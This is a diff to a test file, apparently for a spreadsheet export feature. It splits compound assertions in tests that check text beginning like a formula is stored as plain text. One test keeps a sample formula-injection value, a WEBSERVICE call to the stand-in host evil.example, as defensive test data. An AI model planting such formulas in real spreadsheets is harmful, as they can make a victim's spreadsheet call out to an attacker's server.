@@ -44,7 +44,8 @@ def test_text_that_begins_like_a_formula_is_written_as_text():
     cells = _cells(workbook_bytes(workbook))
     _assert_text_not_formula(cells, HOSTILE + ["=标题"])
     plain = next(cell for cell in cells if cell.value == "正常文字")
-    assert plain.data_type == "s" and not plain.quotePrefix
+    assert plain.data_type == "s"
+    assert not plain.quotePrefix
 
 
 def test_numbers_and_dates_stay_numbers():
@@ -129,4 +130,5 @@ def test_the_work_list_writes_hostile_titles_as_text_and_counts_as_numbers(world
     cells = _cells(response.content)
     _assert_text_not_formula(cells, ["=WEBSERVICE(\"http://evil.example\")"])
     words = next(cell for cell in cells if cell.column == 11 and cell.row > 2)  # the word count
-    assert words.data_type == "n" and words.value == work.word_count
+    assert words.data_type == "n"
+    assert words.value == work.word_count
